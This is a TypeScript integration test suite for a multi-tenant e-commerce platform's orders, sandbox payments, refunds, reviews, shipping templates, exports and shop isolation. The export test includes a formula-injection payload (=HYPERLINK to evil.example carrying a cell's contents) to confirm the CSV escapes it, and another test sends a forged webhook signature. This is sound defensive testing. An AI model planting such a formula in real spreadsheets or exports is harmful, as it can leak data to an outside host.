import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { startTestPlatform, uid, type TestPlatform } from '../../helpers/test-platform';
import { bearer } from '../../helpers/fixtures';
import { pngBytes } from '../../helpers/catalog';
import {
  buyer,
  paySandbox,
  placeOrder,
  product,
  sellingShop,
  stockOf,
  systemCtx,
  type SellingShop,
} from '../../helpers/orders';

let t: TestPlatform;
let s: SellingShop;
beforeAll(async () => {
  t = await startTestPlatform();
  s = await sellingShop(t);
});
afterAll(() => t.close());

const m = (path: string) => `/merchant-api/v1${path}`;

describe('paid, shipped, received, reviewed (sandbox)', () => {
  it('walks the whole path and the review shows on the product', async () => {
    const { productId, skuId } = await product(t, s, 10, 2590);
    const b = await buyer(t, s);
    const order = await placeOrder(t, s, b, [{ skuId, quantity: 2 }]);

    const methods = (await t.api.get(s.url('/payment-methods?client=h5')).expect(200)).body;
    expect(methods).toEqual({ testMode: true, methods: ['sandbox'] });
    await t.api
      .post(s.url(`/orders/${order.id}/pay`))
      .set(bearer(b.token))
      .send({ method: 'wechat_jsapi' })
      .expect(409);

    // Shipping an unpaid order is refused.
    await t.api
      .post(m(`/orders/${order.id}/ship`))
      .set(bearer(s.merchant))
      .send({ carrier: 'SF', trackingNo: 'SF1234567890' })
      .expect(409);

    const paid = await paySandbox(t, s, b.token, order.id);
    expect(paid).toMatchObject({
      status: 'paid',
      payment: { provider: 'sandbox', method: 'sandbox', amountFen: 5180 },
    });
    expect(paid.events.map((e: { type: string }) => e.type)).toEqual(['placed', 'paid']);
    expect(paid).not.toHaveProperty('merchantRemark');

    const listed = (
      await t.api
        .get(m(`/orders?status=paid&q=${order.orderNo}`))
        .set(bearer(s.merchant))
        .expect(200)
    ).body;
    expect(listed.items.map((o: { id: number }) => o.id)).toEqual([order.id]);
    expect(listed.items[0]).toMatchObject({ shopper: { id: b.shopperId }, wechatShipping: 'not_required' });
    const byPhone = (await t.api.get(m('/orders?q=13700000000')).set(bearer(s.merchant)).expect(200)).body;
    expect(byPhone.items.map((o: { id: number }) => o.id)).toContain(order.id);

    await t.api
      .put(m(`/orders/${order.id}/remark`))
      .set(bearer(s.merchant))
      .send({ remark: '加急' })
      .expect(200);
    const shipped = (
      await t.api
        .post(m(`/orders/${order.id}/ship`))
        .set(bearer(s.merchant))
        .send({ carrier: 'SF', trackingNo: 'SF1234567890' })
        .expect(200)
    ).body;
    expect(shipped).toMatchObject({
      status: 'shipped',
      merchantRemark: '加急',
      shipment: { carrier: 'SF', carrierName: '顺丰速运', trackingNo: 'SF1234567890' },
    });
    // Shipping the same parcel again changes nothing; a shipped order cannot be cancelled.
    await t.api
      .post(m(`/orders/${order.id}/ship`))
      .set(bearer(s.merchant))
      .send({ carrier: 'SF', trackingNo: 'SF1234567890' })
      .expect(200);
    await t.api
      .post(m(`/orders/${order.id}/cancel`))
      .set(bearer(s.merchant))
      .send({ reason: '缺货' })
      .expect(409);

    // Reviewing before receipt is refused.
    await t.api
      .post(s.url(`/orders/${order.id}/reviews`))
      .set(bearer(b.token))
      .send({ items: [{ skuId, rating: 5, content: '好' }] })
      .expect(409);
    const received = (
      await t.api
        .post(s.url(`/orders/${order.id}/confirm-receipt`))
        .set(bearer(b.token))
        .expect(200)
    ).body;
    expect(received).toMatchObject({ status: 'completed', reviewed: false });

    const photo = await t.api
      .post(s.url('/review-images'))
      .set(bearer(b.token))
      .attach('file', await pngBytes('#aa3355', 400, 300), 'p.png')
      .expect(201);
    const reviews = (
      await t.api
        .post(s.url(`/orders/${order.id}/reviews`))
        .set(bearer(b.token))
        .send({ items: [{ skuId, rating: 4, content: '包装很好', imageIds: [photo.body.id], anonymous: true }] })
        .expect(201)
    ).body;
    expect(reviews[0]).toMatchObject({ rating: 4, content: '包装很好', anonymous: true, imageUrls: [photo.body.url] });
    expect(reviews[0].author).toMatch(/\*\*\*$/);
    await t.api
      .post(s.url(`/orders/${order.id}/reviews`))
      .set(bearer(b.token))
      .send({ items: [{ skuId, rating: 1 }] })
      .expect(409);

    const detail = (await t.api.get(s.url(`/products/${productId}`)).expect(200)).body;
    expect(detail.rating).toEqual({ average: 4, count: 1 });
    const onProduct = (await t.api.get(s.url(`/products/${productId}/reviews`)).expect(200)).body;
    expect(onProduct).toMatchObject({ summary: { average: 4, count: 1, histogram: [0, 0, 0, 1, 0] }, total: 1 });

    const reviewId = reviews[0].id as number;
    await t.api
      .post(m(`/reviews/${reviewId}/reply`))
      .set(bearer(s.merchant))
      .send({ content: '谢谢支持' })
      .expect(200);
    expect((await t.api.get(s.url(`/products/${productId}/reviews`)).expect(200)).body.items[0].reply.content).toBe(
      '谢谢支持',
    );
    await t.api
      .post(m(`/reviews/${reviewId}/visibility`))
      .set(bearer(s.merchant))
      .send({ hidden: true, reason: '广告' })
      .expect(200);
    expect((await t.api.get(s.url(`/products/${productId}/reviews`)).expect(200)).body).toMatchObject({
      summary: { average: null, count: 0 },
      total: 0,
    });
    expect((await t.api.get(s.url(`/products/${productId}`)).expect(200)).body.rating).toEqual({
      average: null,
      count: 0,
    });
    const merchantView = (await t.api.get(m('/reviews?hidden=true')).set(bearer(s.merchant)).expect(200)).body;
    expect(merchantView.items.map((r: { id: number; hidden: boolean }) => [r.id, r.hidden])).toEqual([
      [reviewId, true],
    ]);
  });

  it('a shipped order is confirmed for the shopper after the shop’s auto-confirm days', async () => {
    const { skuId } = await product(t, s, 3);
    const b = await buyer(t, s);
    const order = await placeOrder(t, s, b, [{ skuId, quantity: 1 }]);
    await paySandbox(t, s, b.token, order.id);
    const shipped = (
      await t.api
        .post(m(`/orders/${order.id}/ship`))
        .set(bearer(s.merchant))
        .send({ carrier: 'ZTO', trackingNo: `ZTO${uid()}` })
        .expect(200)
    ).body;
    const due = new Date(shipped.autoConfirmAt);
    // The sweep covers every shop of this database; only this order is asserted on.
    await t.platform.services.orders.autoConfirm(systemCtx(t, s.shop.id), new Date(due.getTime() - 1000));
    expect(
      (
        await t.api
          .get(s.url(`/orders/${order.id}`))
          .set(bearer(b.token))
          .expect(200)
      ).body.status,
    ).toBe('shipped');
    expect(
      await t.platform.services.orders.autoConfirm(systemCtx(t, s.shop.id), new Date(due.getTime() + 1000)),
    ).toBeGreaterThanOrEqual(1);
    const done = (
      await t.api
        .get(s.url(`/orders/${order.id}`))
        .set(bearer(b.token))
        .expect(200)
    ).body;
    expect(done.status).toBe('completed');
    expect(done.events.at(-1).type).toBe('auto_confirmed');
  });
});

describe('refunds', () => {
  it('refunds part, then the rest, never more than was paid', async () => {
    const { skuId } = await product(t, s, 5, 3000);
    const b = await buyer(t, s);
    const order = await placeOrder(t, s, b, [{ skuId, quantity: 1 }]);
    await t.api
      .post(m(`/orders/${order.id}/refunds`))
      .set(bearer(s.merchant))
      .send({ amountFen: 100, reason: '差价' })
      .expect(409);
    await paySandbox(t, s, b.token, order.id);
    const partial = (
      await t.api
        .post(m(`/orders/${order.id}/refunds`))
        .set(bearer(s.merchant))
        .send({ amountFen: 1000, reason: '差价' })
        .expect(201)
    ).body;
    expect(partial).toMatchObject({
      refundedFen: 1000,
      status: 'paid',
      refunds: [{ amountFen: 1000, status: 'succeeded', kind: 'merchant' }],
    });
    // More than is left is refused whole, never cut down to what is left, and nothing is recorded.
    const tooMuch = await t.api
      .post(m(`/orders/${order.id}/refunds`))
      .set(bearer(s.merchant))
      .send({ amountFen: 2001, reason: '多退' })
      .expect(409);
    expect(tooMuch.body.error).toMatchObject({
      code: 'CONFLICT',
      details: { reason: 'exceeds_refundable', refundableFen: 2000, requestedFen: 2001 },
    });
    expect(await t.platform.knex('refunds').where({ order_id: order.id }).count({ n: '*' })).toEqual([{ n: 1 }]);
    await t.api
      .post(m(`/orders/${order.id}/refunds`))
      .set(bearer(s.merchant))
      .send({ amountFen: 0, reason: 'x' })
      .expect(400);
    const rest = (
      await t.api
        .post(m(`/orders/${order.id}/refunds`))
        .set(bearer(s.merchant))
        .send({ amountFen: 2000, reason: '退货' })
        .expect(201)
    ).body;
    expect(rest.refundedFen).toBe(3000);
    const nothing = await t.api
      .post(m(`/orders/${order.id}/refunds`))
      .set(bearer(s.merchant))
      .send({ amountFen: 1, reason: '再退' })
      .expect(409);
    expect(nothing.body.error.details).toEqual({ reason: 'nothing_to_refund', status: 'refunded', refundableFen: 0 });
  });

  it('a full refund closes a paid, unshipped order: its stock returns, it cannot be shipped, and the shopper sees it refunded', async () => {
    const { skuId } = await product(t, s, 5, 2000);
    const b = await buyer(t, s);
    const order = await placeOrder(t, s, b, [{ skuId, quantity: 2 }]);
    await paySandbox(t, s, b.token, order.id);
    expect(await stockOf(t, skuId)).toBe(3);
    // A partial refund keeps the order open: still to be shipped, stock still taken.
    const partial = (
      await t.api
        .post(m(`/orders/${order.id}/refunds`))
        .set(bearer(s.merchant))
        .send({ amountFen: 1000, reason: '差价' })
        .expect(201)
    ).body;
    expect(partial).toMatchObject({ status: 'paid', refundedFen: 1000 });
    expect(await stockOf(t, skuId)).toBe(3);

    const full = (
      await t.api
        .post(m(`/orders/${order.id}/refunds`))
        .set(bearer(s.merchant))
        .send({ amountFen: 3000, reason: '不要了' })
        .expect(201)
    ).body;
    expect(full).toMatchObject({ status: 'refunded', refundedFen: 4000, cancelReason: '不要了' });
    expect(
      full.events.map((e: { type: string; fromStatus: string | null; toStatus: string }) => [e.type, e.toStatus]),
    ).toEqual([
      ['placed', 'pending_payment'],
      ['paid', 'paid'],
      ['refund_requested', 'paid'],
      ['refunded', 'paid'],
      ['refund_requested', 'paid'],
      ['refunded_in_full', 'refunded'],
      ['refunded', 'refunded'],
    ]);
    expect(await stockOf(t, skuId)).toBe(5);

    const ship = await t.api
      .post(m(`/orders/${order.id}/ship`))
      .set(bearer(s.merchant))
      .send({ carrier: 'SF', trackingNo: 'SF1234567890' })
      .expect(409);
    expect(ship.body.error.details).toEqual({ reason: 'order_closed', status: 'refunded' });
    await t.api
      .post(m(`/orders/${order.id}/cancel`))
      .set(bearer(s.merchant))
      .send({ reason: '缺货' })
      .expect(409);
    expect(
      (
        await t.api
          .get(s.url(`/orders/${order.id}`))
          .set(bearer(b.token))
          .expect(200)
      ).body.status,
    ).toBe('refunded');
    const listed = (
      await t.api
        .get(m(`/orders?status=refunded&q=${order.orderNo}`))
        .set(bearer(s.merchant))
        .expect(200)
    ).body;
    expect(listed.items.map((o: { id: number }) => o.id)).toEqual([order.id]);
  });

  it('a full refund of a shipped order closes it without returning stock, and auto-confirm passes it by', async () => {
    const { skuId } = await product(t, s, 5, 1200);
    const b = await buyer(t, s);
    const order = await placeOrder(t, s, b, [{ skuId, quantity: 1 }]);
    await paySandbox(t, s, b.token, order.id);
    const shipped = (
      await t.api
        .post(m(`/orders/${order.id}/ship`))
        .set(bearer(s.merchant))
        .send({ carrier: 'SF', trackingNo: 'SF2234567890' })
        .expect(200)
    ).body;
    const full = (
      await t.api
        .post(m(`/orders/${order.id}/refunds`))
        .set(bearer(s.merchant))
        .send({ amountFen: 1200, reason: '退货退款' })
        .expect(201)
    ).body;
    expect(full).toMatchObject({ status: 'refunded', refundedFen: 1200 });
    expect(full.events.find((e: { type: string }) => e.type === 'refunded_in_full')).toMatchObject({
      fromStatus: 'shipped',
      toStatus: 'refunded',
    });
    expect(await stockOf(t, skuId)).toBe(4);
    await t.platform.services.orders.autoConfirm(
      systemCtx(t, s.shop.id),
      new Date(Date.parse(shipped.autoConfirmAt) + 1000),
    );
    await t.api
      .post(s.url(`/orders/${order.id}/confirm-receipt`))
      .set(bearer(b.token))
      .expect(409);
    expect(
      (
        await t.api
          .get(s.url(`/orders/${order.id}`))
          .set(bearer(b.token))
          .expect(200)
      ).body.status,
    ).toBe('refunded');
  });

  it('many refunds at once still never pass what was paid', async () => {
    const { skuId } = await product(t, s, 5, 1000);
    const b = await buyer(t, s);
    const order = await placeOrder(t, s, b, [{ skuId, quantity: 1 }]);
    await paySandbox(t, s, b.token, order.id);
    const results = await Promise.all(
      Array.from({ length: 8 }, () =>
        t.api
          .post(m(`/orders/${order.id}/refunds`))
          .set(bearer(s.merchant))
          .send({ amountFen: 300, reason: '并发' }),
      ),
    );
    expect(results.filter((r) => r.status === 201)).toHaveLength(3);
    expect(results.every((r) => r.status === 201 || r.status === 409)).toBe(true);
    const row = await t.platform.knex('orders').where({ id: order.id }).first();
    expect(Number(row.refunded_fen)).toBe(900);
  });

  it('cancelling a paid order refunds it in full and returns the stock', async () => {
    const { skuId } = await product(t, s, 4, 1500);
    const b = await buyer(t, s);
    const order = await placeOrder(t, s, b, [{ skuId, quantity: 2 }]);
    await paySandbox(t, s, b.token, order.id);
    expect(await stockOf(t, skuId)).toBe(2);
    // A shopper cannot cancel a paid order themselves.
    await t.api
      .post(s.url(`/orders/${order.id}/cancel`))
      .set(bearer(b.token))
      .send({})
      .expect(409);
    const cancelled = (
      await t.api
        .post(m(`/orders/${order.id}/cancel`))
        .set(bearer(s.merchant))
        .send({ reason: '缺货' })
        .expect(200)
    ).body;
    expect(cancelled).toMatchObject({
      status: 'cancelled',
      refundedFen: 3000,
      refunds: [{ kind: 'order_cancelled', amountFen: 3000, status: 'succeeded' }],
    });
    expect(await stockOf(t, skuId)).toBe(4);
    await t.api
      .post(m(`/orders/${order.id}/cancel`))
      .set(bearer(s.merchant))
      .send({ reason: '缺货' })
      .expect(200);
    expect(Number((await t.platform.knex('refunds').where({ order_id: order.id }).count({ n: '*' }))[0]!.n)).toBe(1);
  });

  it('a payment that arrives after its order closed is refunded automatically and recorded', async () => {
    const { skuId } = await product(t, s, 2, 990);
    const b = await buyer(t, s);
    const order = await placeOrder(t, s, b, [{ skuId, quantity: 1 }]);
    const pay = await t.api
      .post(s.url(`/orders/${order.id}/pay`))
      .set(bearer(b.token))
      .send({ method: 'sandbox' })
      .expect(200);
    const later = new Date(Date.parse(order.paymentDeadline) + 1000);
    expect(await t.platform.services.cancelOrder.closeIfExpired(systemCtx(t, s.shop.id), order.id, later)).toBe(true);
    await t.api
      .post(s.url(`/orders/${order.id}/pay`))
      .set(bearer(b.token))
      .send({ method: 'sandbox' })
      .expect(409);
    const after = (
      await t.api
        .post(s.url(`/payments/${pay.body.paymentNo}/sandbox-confirm`))
        .set(bearer(b.token))
        .expect(200)
    ).body;
    expect(after).toMatchObject({
      status: 'cancelled',
      refundedFen: 0,
      refunds: [{ kind: 'late_payment', amountFen: 990, status: 'succeeded' }],
    });
    expect(after.events.map((e: { type: string }) => e.type)).toEqual(['placed', 'closed', 'late_payment', 'refunded']);
    expect(await stockOf(t, skuId)).toBe(2);
  });
});

describe('sales', () => {
  it('counts sales per product when an order is paid, never for unpaid ones, and takes them back on a full refund or a cancellation', async () => {
    const shop = await sellingShop(t);
    const a = await product(t, shop, 20, 1000);
    const c = await product(t, shop, 20, 500);
    const b = await buyer(t, shop);
    const inConsole = async (productId: number) =>
      (
        await t.api
          .get(m(`/catalog/products/${productId}`))
          .set(bearer(shop.merchant))
          .expect(200)
      ).body.salesCount as number;
    const inShop = async (productId: number) =>
      (await t.api.get(shop.url(`/products/${productId}`)).expect(200)).body.salesCount as number;
    const bySales = async () =>
      (
        (await t.api.get(shop.url('/products?sort=sales')).expect(200)).body.items as Array<{
          id: number;
          salesCount: number;
        }>
      ).map((p) => [p.id, p.salesCount]);
    // Read once, so the shop's answers are cached when the sales move.
    expect(await inShop(a.productId)).toBe(0);
    expect(await bySales()).toEqual([
      [c.productId, 0],
      [a.productId, 0],
    ]);

    const first = await placeOrder(t, shop, b, [
      { skuId: a.skuId, quantity: 3 },
      { skuId: c.skuId, quantity: 1 },
    ]);
    const unpaid = await placeOrder(t, shop, b, [{ skuId: c.skuId, quantity: 5 }]);
    await t.api
      .post(shop.url(`/orders/${unpaid.id}/cancel`))
      .set(bearer(b.token))
      .send({})
      .expect(200);
    expect([await inConsole(a.productId), await inConsole(c.productId)]).toEqual([0, 0]);

    await paySandbox(t, shop, b.token, first.id);
    expect([await inConsole(a.productId), await inConsole(c.productId)]).toEqual([3, 1]);
    expect(await inShop(a.productId)).toBe(3);
    expect(await bySales()).toEqual([
      [a.productId, 3],
      [c.productId, 1],
    ]);

    // A partial refund is per amount, not per line: the sales stay; the refund that completes it takes them back.
    await t.api
      .post(m(`/orders/${first.id}/refunds`))
      .set(bearer(shop.merchant))
      .send({ amountFen: 500, reason: '差价' })
      .expect(201);
    expect([await inConsole(a.productId), await inConsole(c.productId)]).toEqual([3, 1]);
    await t.api
      .post(m(`/orders/${first.id}/refunds`))
      .set(bearer(shop.merchant))
      .send({ amountFen: 3000, reason: '退款' })
      .expect(201);
    expect([await inConsole(a.productId), await inConsole(c.productId)]).toEqual([0, 0]);
    expect(await inShop(a.productId)).toBe(0);

    // A paid order the merchant cancels: counted, then taken back.
    const second = await placeOrder(t, shop, b, [{ skuId: c.skuId, quantity: 2 }]);
    await paySandbox(t, shop, b.token, second.id);
    expect(await inConsole(c.productId)).toBe(2);
    await t.api
      .post(m(`/orders/${second.id}/cancel`))
      .set(bearer(shop.merchant))
      .send({ reason: '缺货' })
      .expect(200);
    expect(await inConsole(c.productId)).toBe(0);
    expect(await inShop(c.productId)).toBe(0);
  });
});

describe('sandbox notifications', () => {
  it('a replayed notification changes nothing; a forged one is refused', async () => {
    const { skuId } = await product(t, s, 3, 500);
    const b = await buyer(t, s);
    const order = await placeOrder(t, s, b, [{ skuId, quantity: 1 }]);
    const pay = await t.api
      .post(s.url(`/orders/${order.id}/pay`))
      .set(bearer(b.token))
      .send({ method: 'sandbox' })
      .expect(200);
    const payments = t.platform.services.payments;
    // What the sandbox sends is built by the platform; a copy with a changed amount fails its signature.
    const forged = {
      headers: { 'x-sandbox-timestamp': String(Math.floor(Date.now() / 1000)), 'x-sandbox-signature': 'AAAA' },
      rawBody: JSON.stringify({
        id: 'f1',
        event: 'payment.succeeded',
        paymentNo: pay.body.paymentNo,
        amountFen: 500,
        transactionId: 'x',
      }),
    };
    const res = await t.api
      .post(`/webhooks/pay/sandbox/${s.shop.id}`)
      .set(forged.headers)
      .set('content-type', 'application/json')
      .send(forged.rawBody);
    expect(res.status).toBe(400);
    expect((await t.api.get(s.url(`/orders/${order.id}`)).set(bearer(b.token))).body.status).toBe('pending_payment');
    await t.api
      .post(s.url(`/payments/${pay.body.paymentNo}/sandbox-confirm`))
      .set(bearer(b.token))
      .expect(200);
    await t.api
      .post(s.url(`/payments/${pay.body.paymentNo}/sandbox-confirm`))
      .set(bearer(b.token))
      .expect(200);
    const final = (await t.api.get(s.url(`/orders/${order.id}`)).set(bearer(b.token))).body;
    expect(final.events.filter((e: { type: string }) => e.type === 'paid')).toHaveLength(1);
    expect(final.refunds).toEqual([]);
    expect(payments).toBeDefined();
  });
});

describe('shipping templates and order settings', () => {
  it('prices shipping by region, free above an amount, and refuses regions not served', async () => {
    const own = await sellingShop(t);
    const tpl = (
      await t.api
        .post(m('/shipping-templates'))
        .set(bearer(own.merchant))
        .send({
          name: '默认',
          firstFeeFen: 800,
          freeAboveFen: 9900,
          rules: [
            { regions: ['65', '54'], firstFeeFen: 2000, freeAboveFen: null },
            { regions: ['350102'], firstFeeFen: 0 },
          ],
          excludedRegions: ['71'],
        })
        .expect(201)
    ).body;
    // A flat fee: the first piece at the fee, each further one free.
    const flat = { firstUnits: 1, additionalUnits: 1, additionalFeeFen: 0, freeMinUnits: null };
    expect(tpl).toMatchObject({
      isDefault: true,
      chargeMode: 'piece',
      ...flat,
      rules: [
        { regions: ['65', '54'], ...flat, firstFeeFen: 2000, freeAboveFen: null },
        { regions: ['350102'], ...flat, firstFeeFen: 0, freeAboveFen: null },
      ],
    });
    const { skuId } = await product(t, own, 50, 1000);
    const preview = async (regionCode: string, quantity: number) => {
      const b = await buyer(t, own, regionCode);
      return t.api
        .post(own.url('/checkout/preview'))
        .set(bearer(b.token))
        .send({ items: [{ skuId, quantity }], addressId: b.addressId });
    };
    expect((await preview('110101', 1)).body).toMatchObject({ shippingFen: 800, totalFen: 1800 });
    expect((await preview('110101', 10)).body).toMatchObject({ shippingFen: 0, totalFen: 10000 });
    expect((await preview('650102', 1)).body).toMatchObject({ shippingFen: 2000 });
    expect((await preview('350102', 1)).body).toMatchObject({ shippingFen: 0 });
    const refused = await preview('710000', 1);
    expect(refused.status).toBe(409);
    expect(refused.body.error.details.problems[0].reason).toBe('not_deliverable');

    const b = await buyer(t, own, '650102');
    const placed = (
      await t.api
        .post(own.url('/orders'))
        .set(bearer(b.token))
        .set('Idempotency-Key', `s-${uid()}`)
        .send({ items: [{ skuId, quantity: 1 }], addressId: b.addressId })
        .expect(201)
    ).body;
    expect(placed).toMatchObject({ itemsTotalFen: 1000, shippingFen: 2000, totalFen: 3000 });

    await t.api
      .delete(m(`/shipping-templates/${tpl.id}`))
      .set(bearer(own.merchant))
      .expect(409);
    const second = (
      await t.api
        .post(m('/shipping-templates'))
        .set(bearer(own.merchant))
        .send({ name: '包邮', firstFeeFen: 0, isDefault: true })
        .expect(201)
    ).body;
    const list = (await t.api.get(m('/shipping-templates')).set(bearer(own.merchant)).expect(200)).body;
    expect(list.map((x: { id: number; isDefault: boolean }) => [x.id, x.isDefault])).toEqual([
      [second.id, true],
      [tpl.id, false],
    ]);
    await t.api
      .delete(m(`/shipping-templates/${tpl.id}`))
      .set(bearer(own.merchant))
      .expect(200);
    await t.api
      .post(m('/shipping-templates'))
      .set(bearer(own.merchant))
      .send({ name: '坏', firstFeeFen: -1 })
      .expect(400);
    await t.api
      .post(m('/shipping-templates'))
      .set(bearer(own.merchant))
      .send({ name: '坏', firstFeeFen: 0, rules: [{ regions: ['1'], firstFeeFen: 1 }] })
      .expect(400);
  });

  it('the payment window is per shop', async () => {
    const own = await sellingShop(t);
    expect((await t.api.get(m('/order-settings')).set(bearer(own.merchant)).expect(200)).body).toEqual({
      paymentWindowMinutes: 15,
      autoConfirmDays: 10,
    });
    await t.api
      .put(m('/order-settings'))
      .set(bearer(own.merchant))
      .send({ paymentWindowMinutes: 30, autoConfirmDays: 7 })
      .expect(200);
    await t.api
      .put(m('/order-settings'))
      .set(bearer(own.merchant))
      .send({ paymentWindowMinutes: 1, autoConfirmDays: 7 })
      .expect(400);
    const { skuId } = await product(t, own, 5);
    const b = await buyer(t, own);
    const order = await placeOrder(t, own, b, [{ skuId, quantity: 1 }]);
    const created = (await t.platform.knex('orders').where({ id: order.id }).first()).created_at as Date;
    expect(Date.parse(order.paymentDeadline) - created.getTime()).toBeGreaterThanOrEqual(29 * 60_000);
  });
});

describe('export', () => {
  it('exports the filtered orders as XLSX and CSV, a row per line', async () => {
    const own = await sellingShop(t);
    const { skuId } = await product(t, own, 5, 1234);
    const b = await buyer(t, own);
    const order = await placeOrder(t, own, b, [{ skuId, quantity: 2 }]);
    const xlsx = await t.api
      .get(m('/orders/export?format=xlsx'))
      .set(bearer(own.merchant))
      .buffer(true)
      .parse((res, cb) => {
        const chunks: Buffer[] = [];
        res.on('data', (c: Buffer) => chunks.push(c));
        res.on('end', () => cb(null, Buffer.concat(chunks)));
      })
      .expect(200);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(new Uint8Array(xlsx.body as Buffer).buffer);
    const sheet = book.getWorksheet('orders')!;
    expect(sheet.rowCount).toBe(2);
    expect(String(sheet.getRow(2).getCell(1).value)).toBe(order.orderNo);
    expect(String(sheet.getRow(2).getCell(12).value)).toBe('24.68');
    const csv = await t.api.get(m('/orders/export?format=csv&status=paid')).set(bearer(own.merchant)).expect(200);
    expect(csv.text.split('\n').filter(Boolean)).toHaveLength(1);
    await t.api.get(m('/orders/export?format=pdf')).set(bearer(own.merchant)).expect(400);
  });

  it("a shopper's remark reaches the CSV as text, never as a live formula; amounts stay numbers", async () => {
    const own = await sellingShop(t);
    const { skuId } = await product(t, own, 5, 1234);
    const b = await buyer(t, own);
    const remark = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
    await t.api
      .post(own.url('/orders'))
      .set(bearer(b.token))
      .set('Idempotency-Key', `f-${uid()}`)
      .send({ items: [{ skuId, quantity: 1 }], addressId: b.addressId, remark })
      .expect(201);
    const csv = await t.api.get(m('/orders/export?format=csv')).set(bearer(own.merchant)).expect(200);
    const [header, row] = parse(csv.text, { bom: true }) as string[][];
    expect(row![header!.indexOf('买家留言')]).toBe(`'${remark}`);
    expect(row![header!.indexOf('单价')]).toBe('12.34');
    for (const cell of row!) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?![\d.]+$)/);
  });
});

describe('a suspended shop', () => {
  it('takes no new orders until it is reinstated', async () => {
    const own = await sellingShop(t);
    const { skuId } = await product(t, own, 5);
    const b = await buyer(t, own);
    await placeOrder(t, own, b, [{ skuId, quantity: 1 }]);
    const ctx = {
      requestId: 'test',
      tenantId: null,
      actor: { type: 'system' as const, job: 'test' },
      log: t.platform.log,
    };
    await t.platform.services.qualificationReview.suspend(ctx, own.shop.id, '违规');
    const refused = await t.api
      .post(own.url('/orders'))
      .set(bearer(b.token))
      .set('Idempotency-Key', `sus-${uid()}`)
      .send({ items: [{ skuId, quantity: 1 }], addressId: b.addressId });
    expect(refused.status).toBe(403);
    expect(refused.body.error.code).toBe('SHOP_SUSPENDED');
  });
});

describe('isolation', () => {
  it("another shop's merchant and another shopper can neither read nor change orders, payments or reviews", async () => {
    const { skuId } = await product(t, s, 5);
    const b = await buyer(t, s);
    const order = await placeOrder(t, s, b, [{ skuId, quantity: 1 }]);
    const other = await sellingShop(t);
    await t.api
      .get(m(`/orders/${order.id}`))
      .set(bearer(other.merchant))
      .expect(404);
    await t.api
      .post(m(`/orders/${order.id}/ship`))
      .set(bearer(other.merchant))
      .send({ carrier: 'SF', trackingNo: 'SF0000000001' })
      .expect(404);
    await t.api
      .post(m(`/orders/${order.id}/cancel`))
      .set(bearer(other.merchant))
      .send({ reason: 'x' })
      .expect(404);
    await t.api
      .post(m(`/orders/${order.id}/refunds`))
      .set(bearer(other.merchant))
      .send({ amountFen: 1, reason: 'x' })
      .expect(404);
    await t.api
      .put(m(`/orders/${order.id}/remark`))
      .set(bearer(other.merchant))
      .send({ remark: 'x' })
      .expect(404);
    expect(
      (
        await t.api
          .get(m(`/orders?q=${order.orderNo}`))
          .set(bearer(other.merchant))
          .expect(200)
      ).body.total,
    ).toBe(0);

    const stranger = await buyer(t, s);
    await t.api
      .post(s.url(`/orders/${order.id}/pay`))
      .set(bearer(stranger.token))
      .send({ method: 'sandbox' })
      .expect(404);
    const pay = await t.api
      .post(s.url(`/orders/${order.id}/pay`))
      .set(bearer(b.token))
      .send({ method: 'sandbox' })
      .expect(200);
    await t.api
      .post(s.url(`/payments/${pay.body.paymentNo}/sandbox-confirm`))
      .set(bearer(stranger.token))
      .expect(404);
    await t.api
      .post(s.url(`/orders/${order.id}/confirm-receipt`))
      .set(bearer(stranger.token))
      .expect(404);
    await t.api
      .post(s.url(`/orders/${order.id}/reviews`))
      .set(bearer(stranger.token))
      .send({ items: [{ skuId, rating: 5 }] })
      .expect(404);

    // The other shop's sandbox notification path cannot pay this shop's payment.
    const foreignBuyer = await buyer(t, other);
    await t.api
      .post(other.url(`/payments/${pay.body.paymentNo}/sandbox-confirm`))
      .set(bearer(foreignBuyer.token))
      .expect(404);
    expect((await t.api.get(s.url(`/orders/${order.id}`)).set(bearer(b.token))).body.status).toBe('pending_payment');

    // Reviews and payment settings of a shop are its own.
    const otherReviews = (await t.api.get(m('/reviews')).set(bearer(other.merchant)).expect(200)).body;
    expect(otherReviews.total).toBe(0);
    const mine = (await t.api.get(m('/reviews')).set(bearer(s.merchant)).expect(200)).body;
    if (mine.items.length)
      await t.api
        .post(m(`/reviews/${mine.items[0].id}/reply`))
        .set(bearer(other.merchant))
        .send({ content: 'x' })
        .expect(404);
    await t.api.put(m('/payment-settings/mode')).set(bearer(other.merchant)).send({ testMode: false }).expect(200);
    expect((await t.api.get(s.url('/payment-methods?client=h5')).expect(200)).body.testMode).toBe(true);
    const tpl = (
      await t.api
        .post(m('/shipping-templates'))
        .set(bearer(s.merchant))
        .send({ name: `t${uid()}`, firstFeeFen: 0 })
        .expect(201)
    ).body;
    await t.api
      .put(m(`/shipping-templates/${tpl.id}`))
      .set(bearer(other.merchant))
      .send({ name: 'x', firstFeeFen: 1 })
      .expect(404);
    await t.api
      .delete(m(`/shipping-templates/${tpl.id}`))
      .set(bearer(other.merchant))
      .expect(404);
  });
});
